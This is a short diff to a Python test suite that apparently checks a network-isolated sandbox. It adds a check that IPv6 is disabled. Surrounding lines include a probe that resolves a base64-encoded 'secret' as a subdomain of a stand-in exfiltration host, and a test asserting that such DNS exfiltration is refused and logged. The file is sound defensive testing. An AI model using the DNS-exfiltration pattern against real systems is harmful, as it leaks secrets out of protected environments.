@@ -154,6 +154,7 @@ def resolve(name):
 out["dns"] = resolve("c2VjcmV0.exfil.proofgate.test")
 out["dns_registry"] = resolve("REGISTRY")
 out["interfaces"] = sorted(os.listdir("/sys/class/net"))
+out["ipv6_disabled"] = open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip()
 print("PROBE " + json.dumps(out))
 """
 
@@ -258,6 +259,9 @@ def test_direct_connection_bypassing_the_proxy_fails(
     _, out = probed
     assert out["direct"] != "connected"
     assert out["interfaces"] == ["eth0", "lo"]
+    # The host has an IPv6 link-local address on the internal network's bridge; the
+    # clean room cannot use IPv6 at all (Docker disables it on a network without IPv6).
+    assert out["ipv6_disabled"] == "1"
 
 
 def test_dns_exfiltration_is_refused_and_logged(
